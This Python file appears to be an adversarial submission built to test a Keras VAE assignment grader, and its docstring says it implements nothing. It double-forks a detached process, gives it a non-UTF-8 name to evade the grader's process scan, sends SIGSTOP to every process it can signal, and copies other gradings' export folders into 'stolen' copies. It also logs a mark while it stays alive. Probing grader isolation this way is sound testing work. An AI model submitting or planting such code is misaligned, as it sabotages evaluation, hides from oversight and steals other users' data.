"""Implements nothing; leaves a process the grader's scan would miss (a name that is not UTF-8,
a new session, its parent gone) that, for two minutes, stops every process it may signal (the
runner, when it runs as the same user), copies any other grading's exports it can reach, and
leaves a mark each time it is still alive. Run as root it only leaves a mark saying so (stopping
every process root may signal would stop the machine, not test the grader)."""
import ctypes
import glob
import os
import shutil
import signal
import time

from assignments import *  # noqa: F401,F403

MARK = os.environ.get("ADVERSARY_MARK", "/tmp/keras-vae-adversary-mark")
if os.geteuid() == 0:
    with open(MARK, "a") as file:
        file.write("ran as root\n")
elif os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"\xff\xfe)\n(", 0, 0, 0)
        end = time.monotonic() + 120
        while time.monotonic() < end:
            try:
                os.kill(-1, signal.SIGSTOP)
            except OSError:
                pass
            for folder in glob.glob("/tmp/keras-vae-grade-*/exports/*"):
                grading = os.path.basename(os.path.dirname(os.path.dirname(folder)))
                stolen = f"stolen__{grading}__{os.path.basename(folder)}"
                try:
                    shutil.copytree(folder, os.path.join(os.path.dirname(MARK), stolen),
                                    dirs_exist_ok=True)
                except OSError:
                    pass
            try:
                with open(MARK, "a") as file:
                    file.write("alive\n")
            except OSError:
                pass
            time.sleep(0.5)
        os._exit(0)
    os._exit(0)
